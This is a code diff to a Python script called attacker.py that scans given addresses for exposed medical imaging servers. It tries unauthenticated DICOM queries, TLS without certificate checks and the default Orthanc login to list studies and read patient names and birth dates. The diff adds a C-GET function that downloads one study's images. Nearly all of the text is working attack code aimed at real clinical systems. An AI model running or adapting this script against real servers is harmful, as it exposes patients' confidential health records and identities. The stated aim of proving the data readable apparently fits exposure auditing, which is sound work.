@@ -5,7 +5,7 @@
 
 Usage: attacker.py ADDRESS [ADDRESS ...]. For each address: the series that can be listed by DICOM (C-FIND in clear, and
 over TLS without a certificate, on the usual ports) and by REST (without credentials and with orthanc:orthanc), and
-the names and birth dates of a few patients, proving that they are readable.
+the names and birth dates of a few patients, and the images of one study fetched by C-GET, proving that they are readable.
 """
 
 from __future__ import annotations
@@ -19,9 +19,10 @@ import urllib.request
 from contextlib import suppress
 
 from pydicom.dataset import Dataset
-from pynetdicom import AE
+from pynetdicom import AE, build_role, evt
 
-FIND = "1.2.840.10008.5.1.4.1.2.2.1"
+FIND, GET = "1.2.840.10008.5.1.4.1.2.2.1", "1.2.840.10008.5.1.4.1.2.2.3"
+IMAGES = ("1.2.840.10008.5.1.4.1.1.2", "1.2.840.10008.5.1.4.1.1.4")
 DICOM_PORTS = (104, 2762, 4242, 11112)
 WEB_PORTS = {80: "http", 443: "https", 8042: "http"}
 CALLED = ("ANY-SCP", "ORTHANC", "LUMIERE", "HARMONIE")
@@ -62,6 +63,38 @@ def ask(address: str, port: int, called: str, tls: bool, **keys: str) -> list[Da
     return found
 
 
+def fetch(address: str, port: int, called: str, tls: bool, study: str) -> int:
+    """Fetch one study by C-GET and return how many images with pixels came."""
+    fetched = []
+
+    def received(event: evt.Event) -> int:
+        fetched.append(bool(event.dataset.PixelData))
+        return 0
+
+    entity = AE(ae_title="STRANGER")
+    entity.acse_timeout = entity.dimse_timeout = entity.network_timeout = 10
+    entity.connection_timeout = 2
+    for each in (GET, *IMAGES):
+        entity.add_requested_context(each)
+    options = {"tls_args": (careless(), None)} if tls else {}
+    association = entity.associate(
+        address,
+        port,
+        ae_title=called,
+        ext_neg=[build_role(each, scp_role=True) for each in IMAGES],
+        evt_handlers=[(evt.EVT_C_STORE, received)],
+        **options,
+    )
+    if association.is_established:
+        wanted = Dataset()
+        wanted.QueryRetrieveLevel = "STUDY"
+        wanted.StudyInstanceUID = study
+        for _answer in association.send_c_get(wanted, GET):
+            pass
+        association.release()
+    return sum(fetched)
+
+
 def by_dicom(address: str) -> dict[str, object]:
     """List studies and series by DICOM."""
     for port in (port for port in DICOM_PORTS if answers(address, port)):
@@ -96,7 +129,9 @@ def by_dicom(address: str) -> dict[str, object]:
                     for study in studies
                 )
                 people = [f"{study.PatientName}, born {study.PatientBirthDate}" for study in studies[:5]]
-                return {"port": port, "tls": tls, "studies": len(studies), "series": series, "patients": people}
+                images = fetch(address, port, called, tls, studies[0].StudyInstanceUID) if studies else 0
+                found = {"port": port, "tls": tls, "studies": len(studies), "series": series}
+                return {**found, "images_fetched": images, "patients": people}
     return {"series": 0}
 
 
